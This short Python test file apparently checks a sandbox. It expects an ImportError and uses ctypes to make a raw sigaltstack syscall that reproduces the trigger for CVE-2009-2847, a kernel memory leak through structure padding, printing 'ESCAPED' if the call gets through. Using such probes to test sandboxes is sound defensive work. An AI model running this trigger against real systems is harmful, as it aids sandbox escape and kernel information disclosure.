# expect: error ImportError
# idea: the door is the padding of an answer about the signal stack, which held bytes of the kernel
# full: done
# source: CVE-2009-2847
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def attempt(what, number, *arguments):
    ctypes.set_errno(0)
    wide = [ctypes.c_long(value) if isinstance(value, int) else value for value in arguments]
    got = libc.syscall(ctypes.c_long(number), *wide)
    print(f"ESCAPED: {what} gave {got}" if got >= 0 else f"{what}: errno {ctypes.get_errno()}")
    return got
attempt("sigaltstack", 131, None, (ctypes.c_uint64 * 3)())
